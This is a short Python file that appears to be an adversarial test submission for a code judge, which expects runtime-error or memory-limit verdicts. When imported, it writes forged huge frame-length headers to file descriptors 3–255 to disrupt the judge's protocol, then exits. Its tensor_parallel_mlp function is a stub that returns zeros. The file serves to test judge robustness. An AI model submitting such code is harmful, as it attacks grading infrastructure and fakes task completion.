"""Announces frames of all sizes up to 2^64 on every descriptor.

Harm would be a judge that sets aside the memory announced.

verdicts: RE MLE
"""

import os

import jax.numpy as jnp

for descriptor in range(3, 256):
    for header in (
        b"\xff" * 8,
        b"\x7f" + b"\xff" * 7,
        b"\xff" * 4,
        b"\x00\x00\x00\x01" + b"\xff" * 4,
        b"\xdd\xff\xff\xff\xff",
    ):
        try:
            os.write(descriptor, header)
        except OSError:
            break
os._exit(0)


def tensor_parallel_mlp(x, w1, b1, w2, b2):
    return {"out": jnp.zeros((x.shape[0], w2.shape[1])), "hidden": jnp.zeros((x.shape[0], w1.shape[1]))}
